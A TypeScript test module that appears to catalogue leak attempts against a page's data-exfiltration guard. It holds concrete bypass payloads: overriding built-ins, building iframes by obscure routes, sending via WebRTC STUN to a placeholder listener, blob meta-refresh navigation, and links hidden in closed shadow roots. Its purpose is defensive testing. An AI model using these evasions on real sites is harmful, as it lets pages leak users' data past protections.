import { type LeakAttempt, PAGE } from './attempt.ts';

/** Built-ins that code of the page can replace, and with what: each in a way that would mislead a guard that looks it up when it decides. */
const REPLACED: readonly (readonly [name: string, holder: string, key: string, value: string])[] = [
  ['prevent-default', 'Event.prototype', '"preventDefault"', '() => undefined'],
  [
    'url',
    'window',
    '"URL"',
    'class { href = location.href; protocol = "blob:"; host = ""; pathname = ""; search = "" }',
  ],
  ['can-parse', 'URL', '"canParse"', '() => false'],
  ['apply', 'Function.prototype', '"apply"', 'function () { return undefined }'],
  ['call', 'Function.prototype', '"call"', 'function () { return undefined }'],
  ['reflect-apply', 'Reflect', '"apply"', '() => undefined'],
  ['reflect-get', 'Reflect', '"get"', '() => undefined'],
  ['set-has', 'Set.prototype', '"has"', '() => false'],
  ['map-get', 'Map.prototype', '"get"', '() => undefined'],
  ['array-iterator', 'Array.prototype', 'Symbol.iterator', 'function* () {}'],
  ['array-includes', 'Array.prototype', '"includes"', '() => false'],
  ['array-some', 'Array.prototype', '"some"', '() => false'],
  ['lower-case', 'String.prototype', '"toLowerCase"', '() => "p"'],
  ['split', 'String.prototype', '"split"', '() => ["p"]'],
  ['text-slice', 'String.prototype', '"slice"', '() => "p"'],
  ['text-replace', 'String.prototype', '"replace"', '() => "p"'],
  ['string', 'window', '"String"', '() => "p"'],
  ['exec', 'RegExp.prototype', '"exec"', '() => null'],
  ['closest', 'Element.prototype', '"closest"', '() => null'],
  ['get-attribute', 'Element.prototype', '"getAttribute"', '() => null'],
  ['has-instance', 'Element', 'Symbol.hasInstance', '() => false'],
  ['event-instance', 'Event', 'Symbol.hasInstance', '() => false'],
  ['path', 'Event.prototype', '"composedPath"', '() => []'],
  ['add-listener', 'EventTarget.prototype', '"addEventListener"', '() => undefined'],
];

/** What is tried while it is replaced. */
const WAYS: Readonly<Record<string, string>> = {
  location: `location.href = 'ADDRESS';`,
  link: `const link = document.createElement('a'); link.href = 'ADDRESS'; link.target = '_blank'; document.body.append(link); link.click();`,
  frame: `const frame = document.createElement('iframe'); document.body.append(frame); SEND(frame.contentWindow ?? window[0]);`,
};

/** Sends by the peer connection of a fresh window. */
const SEND = `const send = async (fresh) => {
  const peer = new fresh.RTCPeerConnection({ iceServers: [{ urls: 'stun:LISTENER' }] });
  peer.createDataChannel('leak');
  await peer.setLocalDescription(await peer.createOffer());
};`;
/** Time after which a built-in is put back, so that the test itself goes on. */
const BACK_MS = 150;

function undoing(name: string, code: string, further: Partial<LeakAttempt> = {}): LeakAttempt {
  const isPeer = code.includes('SEND(');
  const text = isPeer ? `${SEND}\n${code.replaceAll('SEND(', 'return send(')}` : code;
  return {
    ...{ name, row: 22, contexts: PAGE, arrivesAt: isPeer ? 'listener' : 'recorder', leavesPage: true, byGuard: true },
    run: `(async () => {\n${text}\n})()`,
    ...further,
  };
}

const BY_REPLACING: readonly LeakAttempt[] = Object.entries(WAYS).flatMap(([way, code]) =>
  REPLACED.map(([what, holder, key, value]) =>
    undoing(
      `${way}-past-${what}`,
      `const before = Object.getOwnPropertyDescriptor(${holder}, ${key});
       Object.defineProperty(${holder}, ${key}, { value: ${value}, configurable: true, writable: true });
       const put = Object.defineProperty.bind(null, ${holder}, ${key}, before ?? { value: undefined, configurable: true });
       setTimeout(before === undefined ? () => { delete ${holder}[${key}]; } : put, ${BACK_MS});
       ${code}`,
      { kind: `${way} past a replaced built-in` },
    ),
  ),
);

const toFresh = (make: string): string =>
  `${make}\n(document.body ?? document.documentElement).append(frame); SEND(frame.contentWindow ?? window[0]);`;

/** Elements that hold a fresh window, made in every way but the plain one. */
const FRESH_WINDOWS: readonly LeakAttempt[] = [
  undoing(
    'frame-by-document',
    toFresh(
      `const frame = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement;`,
    ),
  ),
  undoing(
    'frame-by-class',
    toFresh(
      `class Extended extends HTMLIFrameElement {} customElements.define('x-' + Math.random().toString(36).slice(2).toLowerCase(), Extended, { extends: 'iframe' }); const frame = new Extended();`,
    ),
  ),
  undoing(
    'frame-by-changing-name',
    toFresh(
      `let asked = 0; const frame = document.createElement({ toString: () => (asked++ === 0 ? 'p' : 'iframe') }); if (frame.localName !== 'iframe') { asked = 1; }`,
    ),
    { blind: true },
  ),
  undoing(
    'frame-by-prefix',
    toFresh(`const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe');`),
  ),
  undoing(
    'frame-by-other-document',
    toFresh(
      `const other = document.implementation.createHTMLDocument(''); const frame = document.adoptNode(other.createElement('iframe'));`,
    ),
  ),
  undoing(
    'frame-by-index',
    `const frame = document.createElement('iframe'); document.body.append(frame); SEND(window[window.length - 1]);`,
  ),
  undoing(
    'frame-by-transformation',
    toFresh(
      `const style = document.implementation.createDocument('http://www.w3.org/1999/XSL/Transform', 'xsl:stylesheet');
       style.documentElement.setAttribute('version', '1.0');
       const rule = style.createElementNS('http://www.w3.org/1999/XSL/Transform', 'xsl:template'); rule.setAttribute('match', '/');
       const made = style.createElementNS('http://www.w3.org/1999/XSL/Transform', 'xsl:element'); made.setAttribute('name', 'iframe');
       rule.append(made); style.documentElement.append(rule);
       const sheet = new XSLTProcessor(); sheet.importStylesheet(style);
       const frame = sheet.transformToFragment(document.implementation.createHTMLDocument(''), document).firstElementChild;`,
    ),
  ),
  undoing('frame-by-writing', `document.write('<iframe></iframe>'); SEND(window[0]);`),
  undoing('frame-by-markup', `document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); SEND(window[0]);`),
  undoing('frame-by-unsafe-markup', `document.body.setHTMLUnsafe('<iframe></iframe>'); SEND(window[0]);`),
  undoing(
    'frame-by-range',
    `document.body.append(document.createRange().createContextualFragment('<iframe></iframe>')); SEND(window[0]);`,
  ),
  undoing(
    'frame-by-parser',
    `const other = new DOMParser().parseFromString('<iframe></iframe>', 'text/html'); document.body.append(document.adoptNode(other.querySelector('iframe'))); SEND(window[0]);`,
  ),
  undoing(
    'object-frame',
    `const frame = document.createElement('object'); frame.type = 'text/html'; frame.data = 'about:blank'; document.body.append(frame); SEND(frame.contentWindow ?? window[0]);`,
  ),
];

/** Documents that the page makes itself, which would be fresh ones. */
const DOCUMENTS: readonly LeakAttempt[] = [
  ...(
    [
      ['html', 'text/html', '<meta http-equiv="refresh" content="0;url=TO">'],
      [
        'xhtml',
        'application/xhtml+xml',
        '<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="refresh" content="0;url=TO"/></head></html>',
      ],
      [
        'svg',
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=TO"/></svg>',
      ],
    ] as const
  ).map(([name, type, text]) =>
    undoing(
      `blob-refresh-${name}`,
      // In XML a query would end the text: the host's name is enough.
      `location.href = URL.createObjectURL(new Blob(['${text}'.replace('TO', 'ADDRESS'.split('?')[0])], { type: '${type}' }));`,
      { kind: 'blob-refresh', ...(name === 'svg' ? { blind: true as const } : {}) },
    ),
  ),
  undoing(
    'blob-new-window',
    `const link = document.createElement('a'); link.target = '_blank'; link.href = URL.createObjectURL(new Blob(['<img src="ADDRESS">'], { type: 'text/html' })); document.body.append(link); link.click();`,
  ),
  undoing('document-open', `document.open('ADDRESS', '_blank', 'noopener');`),
  undoing('document-anew', `document.open(); document.write('<img src="ADDRESS">'); document.close();`),
];

const SVG = 'http://www.w3.org/2000/svg';
const click = (node: string): string =>
  `${node}.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }));`;

/** Links and forms that a listener of the page does not see for what they are. */
const LINKS: readonly LeakAttempt[] = [
  undoing(
    'link-around-slot',
    `const host = document.createElement('div'); const inner = document.createElement('span'); host.append(inner); document.body.append(host);
     const link = document.createElement('a'); link.href = 'ADDRESS'; link.target = '_blank'; link.append(document.createElement('slot'));
     host.attachShadow({ mode: 'closed' }).append(link); ${click('inner')}`,
  ),
  undoing(
    'link-in-shadow',
    `const host = document.createElement('div'); document.body.append(host); const link = document.createElement('a'); link.href = 'ADDRESS'; link.target = '_blank';
     host.attachShadow({ mode: 'closed' }).append(link); link.click();`,
  ),
  undoing(
    'svg-link-other-prefix',
    `const svg = document.createElementNS('${SVG}', 'svg'); const link = document.createElementNS('${SVG}', 'a'); svg.append(link); document.body.append(svg);
     link.setAttributeNS('http://www.w3.org/1999/xlink', 'z:href', 'ADDRESS'); link.setAttribute('target', '_blank'); ${click('link')}`,
  ),
  undoing(
    'svg-link-animated',
    `const svg = document.createElementNS('${SVG}', 'svg'); const link = document.createElementNS('${SVG}', 'a'); svg.append(link); document.body.append(svg);
     link.setAttribute('href', '#open');
     for (const [name, to] of [['href', 'ADDRESS'], ['target', '_blank']]) { const set = document.createElementNS('${SVG}', 'set'); set.setAttribute('attributeName', name); set.setAttribute('to', to); link.append(set); }
     setTimeout(() => { ${click('link')} }, 100);`,
  ),
  undoing(
    'link-changed-while-clicked',
    `const link = document.createElement('a'); link.href = '#open'; document.body.append(link);
     link.addEventListener('click', (event) => { event.stopPropagation(); link.href = 'ADDRESS'; link.target = '_blank'; }); link.click();`,
  ),
  undoing(
    'area-new-window',
    `const map = document.createElement('map'); const area = document.createElement('area'); area.href = 'ADDRESS'; area.target = '_blank'; map.append(area); document.body.append(map); area.click();`,
  ),
  undoing(
    'link-of-other-document',
    `const other = document.implementation.createHTMLDocument(''); const link = document.adoptNode(other.createElement('a')); link.href = 'ADDRESS'; link.target = '_blank'; link.click();`,
  ),
  undoing(
    'form-in-shadow',
    `const host = document.createElement('div'); document.body.append(host); const form = document.createElement('form'); form.action = 'ADDRESS'; form.target = '_blank';
     const button = document.createElement('button'); form.append(button); host.attachShadow({ mode: 'closed' }).append(form); button.click();`,
  ),
  undoing(
    'form-asked',
    `const form = document.createElement('form'); form.action = 'ADDRESS'; form.target = '_blank'; document.body.append(form); form.requestSubmit();`,
  ),
];

/** Ways that undo what the page's own guard holds: by replacing what it might use, or past where it looks. */
export const BY_UNDOING: readonly LeakAttempt[] = [...BY_REPLACING, ...FRESH_WINDOWS, ...DOCUMENTS, ...LINKS];
